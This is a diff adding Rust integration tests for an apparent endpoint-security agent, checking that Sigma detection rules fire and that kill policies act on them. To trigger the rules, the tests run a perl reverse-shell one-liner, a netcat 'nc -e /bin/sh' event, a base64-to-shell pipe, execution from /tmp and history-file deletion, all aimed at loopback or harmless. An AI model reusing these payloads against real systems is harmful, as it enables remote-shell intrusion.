@@ -651,3 +651,181 @@ fn end_to_end_acks_without_a_readable_collector_key_refuse_to_start() {
     assert!(!status.success());
     assert!(err.contains("collector_key_file") && err.contains("/nonexistent/collector.pub"), "{err}");
 }
+
+/// A directory under /tmp the test owns (Sigma's "execution from /tmp" rule needs the real /tmp,
+/// wherever TMPDIR points), removed at the end.
+fn tmp_dir_under_slash_tmp(tag: &str) -> tempfile::TempDir {
+    tempfile::Builder::new().prefix(&format!("picket-{tag}-")).tempdir_in("/tmp").unwrap()
+}
+
+/// The `alert` whose `rule.id` is `id`, and the event its `event.trigger_seq` names.
+fn sigma_alert<'a>(
+    events: &'a [serde_json::Value],
+    id: &str,
+) -> Option<(&'a serde_json::Value, &'a serde_json::Value)> {
+    let alert = events.iter().find(|e| e["kind"] == "alert" && e["rule"]["id"] == id)?;
+    let trigger = events.iter().find(|e| e["seq"] == alert["event"]["trigger_seq"])?;
+    Some((alert, trigger))
+}
+
+#[test]
+fn shipped_sigma_rules_fire_on_real_commands_run_under_the_agent() {
+    if !nix_is_root() {
+        eprintln!("\n*** SKIPPED (needs root: the process connector needs CAP_NET_ADMIN) ***\n");
+        return;
+    }
+    let sigma = shipped_policies().join("sigma");
+    let mut agent = TestAgent::build(false, Some(&sigma), PROCESS_ON);
+    agent.start();
+    agent.wait_line(|l| l.contains("source process: running"));
+    let work = tmp_dir_under_slash_tmp("sigma");
+    let w = work.path().display().to_string();
+
+    // 1. Base64 piped to a shell (decodes to `echo hi`).
+    let st = Command::new("/bin/sh").args(["-c", "echo ZWNobyBoaQ== | base64 -d | sh"]).output().unwrap();
+    assert_eq!(String::from_utf8_lossy(&st.stdout).trim(), "hi");
+    // 2. A perl reverse shell aimed at a closed loopback port: connect fails, nothing runs.
+    let perl = "use Socket;$i=\"127.0.0.1\";$p=9;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\
+                if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};";
+    let st = Command::new("/usr/bin/perl").args(["-e", perl]).status().unwrap();
+    assert!(st.success());
+    // 3. A program run from /tmp.
+    let dropped = work.path().join("kworker");
+    std::fs::copy("/bin/true", &dropped).unwrap();
+    assert!(Command::new(&dropped).status().unwrap().success());
+    // 4. A shell history file deleted (one the test wrote).
+    let history = work.path().join(".bash_history");
+    std::fs::write(&history, "ls\n").unwrap();
+    assert!(Command::new("/bin/rm").args(["-f", history.to_str().unwrap()]).status().unwrap().success());
+
+    let expected = [
+        ("ba592c6d-6888-43c3-b8c6-689b8fe47337", "base64 -d | sh".to_string()), // Linux Base64 Encoded Pipe to Shell
+        ("259df6bc-003f-4306-9f54-4ff1a08fa38e", "sockaddr_in".to_string()), // Perl Reverse Shell Execution
+        ("312b42b1-bded-4441-8b58-163a3af58775", format!("{w}/kworker")),    // Execution From Tmp Folder
+        ("1182f3b3-e716-4efa-99ab-d2685d04360f", format!("{w}/.bash_history")), // History File Deletion
+    ];
+    for (id, needle) in &expected {
+        let events = agent.wait_journal(|e| e["kind"] == "alert" && e["rule"]["id"] == *id);
+        let (alert, trigger) =
+            sigma_alert(&events, id).unwrap_or_else(|| panic!("{id}: no trigger for the alert"));
+        assert_eq!(trigger["kind"], "process.start", "{alert}");
+        let cmd = trigger["process"]["command_line"].as_str().unwrap();
+        assert!(cmd.contains(needle.as_str()), "{id} fired on {cmd:?}");
+        assert_eq!(alert["rule"]["ruleset"], "sigma");
+        assert!(alert["rule"]["author"].as_str().is_some_and(|a| !a.is_empty()), "{alert}");
+        assert!(alert["rule"]["level"].is_string() && alert["rule"]["tags"].is_array(), "{alert}");
+        assert_eq!(alert["process"]["pid"], trigger["process"]["pid"], "the alert carries the process");
+        assert!(alert["seq"].as_u64() > trigger["seq"].as_u64());
+        assert!(schema_validator().is_valid(alert), "schema: {alert}");
+    }
+    // Health counts what Sigma raised.
+    agent.wait_journal(|e| {
+        e["kind"] == "agent.health" && e["health"]["detections"]["sigma.alerts.high"].as_u64() >= Some(2)
+    });
+    let (st, _) = agent.stop();
+    assert!(st.success());
+}
+
+#[test]
+fn a_policy_kills_the_process_a_sigma_rule_caught_running_from_tmp() {
+    if !nix_is_root() {
+        eprintln!("\n*** SKIPPED (needs root: the process connector needs CAP_NET_ADMIN) ***\n");
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let rule = "proc_creation_lnx_susp_execution_tmp_folder.yml";
+    std::fs::copy(shipped_policies().join("sigma/process_creation").join(rule), dir.path().join(rule))
+        .unwrap();
+    std::fs::write(
+        dir.path().join("kill-tmp.yaml"),
+        "id: kill-sigma-tmp-exec\ndescription: kill what Sigma saw run from /tmp\nmitre: T1059\non: alert\n\
+         when: rule.ruleset == \"sigma\" and rule.level in [\"medium\", \"high\", \"critical\"] and \
+         process.executable startswith \"/tmp/picket-kill-\"\nseverity: high\nmode: enforce\nactions:\n  - kill\n",
+    )
+    .unwrap();
+    // The test runs as root, so the process it starts does too: root processes are protected
+    // unless `allow_root` says otherwise.
+    let extra = format!("{PROCESS_ON}[containment]\nallow_root = true\n");
+    let mut agent = TestAgent::build(false, Some(dir.path()), &extra);
+    agent.start();
+    agent.wait_line(|l| l.contains("source process: running"));
+    let work = tmp_dir_under_slash_tmp("kill");
+    let sleeper = work.path().join("sleeper");
+    std::fs::copy("/bin/sleep", &sleeper).unwrap();
+    let mut child = Command::new(&sleeper).arg("60").spawn().unwrap();
+    let pid = child.id();
+    let events = agent.wait_journal(|e| {
+        e["kind"] == "action" && e["action"]["outcome"] == "succeeded" && e["process"]["pid"] == pid
+    });
+    let status = child.wait().unwrap();
+    assert!(!status.success(), "the process was killed: {status:?}");
+    let alert =
+        events.iter().find(|e| e["kind"] == "alert" && e["rule"]["id"] == "kill-sigma-tmp-exec").unwrap();
+    let sigma = events.iter().find(|e| e["seq"] == alert["event"]["trigger_seq"]).unwrap();
+    assert_eq!(sigma["rule"]["ruleset"], "sigma", "the policy alert points at the Sigma alert: {alert}");
+    assert_eq!(sigma["rule"]["id"], "312b42b1-bded-4441-8b58-163a3af58775");
+    let (st, _) = agent.stop();
+    assert!(st.success());
+}
+
+#[test]
+fn replay_runs_sigma_rules_beside_policies_and_policies_act_on_sigma_alerts() {
+    let dir = tempfile::tempdir().unwrap();
+    for rule in
+        ["proc_creation_lnx_netcat_reverse_shell.yml", "proc_creation_lnx_susp_execution_tmp_folder.yml"]
+    {
+        std::fs::copy(shipped_policies().join("sigma/process_creation").join(rule), dir.path().join(rule))
+            .unwrap();
+    }
+    std::fs::write(
+        dir.path().join("kill.yaml"),
+        "id: kill-high-execution\ndescription: kill on high Sigma execution rules\nmitre: T1059\non: alert\n\
+         when: rule.ruleset == \"sigma\" and rule.level == \"high\" and rule.tags == \"attack.execution\"\n\
+         severity: high\nactions:\n  - kill\n",
+    )
+    .unwrap();
+    let ev = |seq: u32, exe: &str, argv: &[&str]| {
+        serde_json::json!({"schema_version": 1, "kind": "process.start", "seq": seq,
+            "@timestamp": "2026-11-24T02:00:00Z", "host": {"id": "d"}, "event": {"severity": 0},
+            "process": {"pid": 4000 + seq, "executable": exe, "args": argv, "command_line": argv.join(" ")}})
+        .to_string()
+    };
+    let input = [
+        ev(1, "/usr/bin/nc", &["nc", "-e", "/bin/sh", "127.0.0.1", "9"]),
+        ev(2, "/tmp/.x/kworker", &["/tmp/.x/kworker"]),
+        ev(3, "/usr/bin/ls", &["ls", "-l"]),
+    ]
+    .join("\n");
+    let f = dir.path().join("events.ndjson");
+    std::fs::write(&f, input).unwrap();
+    let out = picket(&[
+        "replay",
+        "--format",
+        "events",
+        "--policies",
+        dir.path().to_str().unwrap(),
+        "--emit",
+        "events,decisions",
+        f.to_str().unwrap(),
+    ]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let lines: Vec<serde_json::Value> =
+        String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    let alerts: Vec<&serde_json::Value> = lines.iter().filter(|l| l["kind"] == "alert").collect();
+    let ids: Vec<(&str, u64)> = alerts
+        .iter()
+        .map(|a| (a["rule"]["id"].as_str().unwrap(), a["event"]["trigger_seq"].as_u64().unwrap()))
+        .collect();
+    assert_eq!(
+        ids,
+        [("7f734ed0-4f47-46c0-837f-6ee62505abd9", 1), ("312b42b1-bded-4441-8b58-163a3af58775", 2)],
+        "{lines:#?}"
+    );
+    // The netcat rule is high and tagged attack.execution; the /tmp one is medium: one decision.
+    let decisions: Vec<&serde_json::Value> = lines.iter().filter(|l| l["kind"] == "decision").collect();
+    assert_eq!(decisions.len(), 1, "{decisions:#?}");
+    assert_eq!(decisions[0]["rule_id"], "kill-high-execution");
+    assert_eq!(decisions[0]["trigger_rule"], "7f734ed0-4f47-46c0-837f-6ee62505abd9");
+    assert_eq!(decisions[0]["actions"][0]["action"], "kill");
+    assert_eq!(decisions[0]["actions"][0]["pid"], 4001);
+}
